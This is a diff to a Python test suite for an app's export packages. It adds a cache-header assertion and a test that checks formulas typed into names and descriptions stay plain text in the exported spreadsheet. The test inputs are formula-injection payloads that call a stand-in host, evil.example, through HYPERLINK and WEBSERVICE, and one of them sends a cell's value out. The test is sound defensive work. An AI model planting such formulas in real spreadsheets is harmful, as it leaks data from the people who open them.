@@ -135,6 +135,7 @@ def test_download_from_the_plan_matches_the_command(app, db, approved, auth, run
     result = runner.invoke(args=["export-package", case_of(db, approved).reference, "-o", str(out)])
     assert result.exit_code == 0, result.output
     assert out.read_bytes() == response.data  # Danish by default on both
+    assert response.headers["Cache-Control"] == "private, no-store"
     english = auth._client.get(f"/exports/package/{approved.id}?lang=en").data
     assert english != response.data
     assert db.exec(select(AuditEvent).where(AuditEvent.action == "export.package")).first()
@@ -197,3 +198,20 @@ def test_the_command_takes_a_version_and_a_language(runner, db, approved, make_p
         manifest = json.loads(archive.read("manifest.json"))
         trail = openpyxl.load_workbook(io.BytesIO(archive.read(archive.namelist()[0]))).worksheets[5]
     assert manifest["version"] == 2 and trail.max_row == 3  # both decisions in the trail
+
+
+def test_text_that_a_spreadsheet_would_run_stays_text(app, db, make_plan, approve, make_case):
+    name = '=HYPERLINK("http://evil.example/?x="&B3,"open")'
+    description = '=WEBSERVICE("http://evil.example/")'
+    version = make_plan(case=make_case(person_name=name),
+                        lines=[Line(kind="cash", amount="4000.00", description=description)])
+    approve(version, now=DECIDED)
+    db.refresh(version)
+    result = build(app, db, version)
+    with zipfile.ZipFile(io.BytesIO(result.data)) as archive:
+        workbook = openpyxl.load_workbook(io.BytesIO(archive.read(next(n for n in archive.namelist()
+                                                                        if n.endswith(".xlsx")))))
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    values = {cell.value for cell in cells}
+    assert name in values and description in values  # as typed, as text
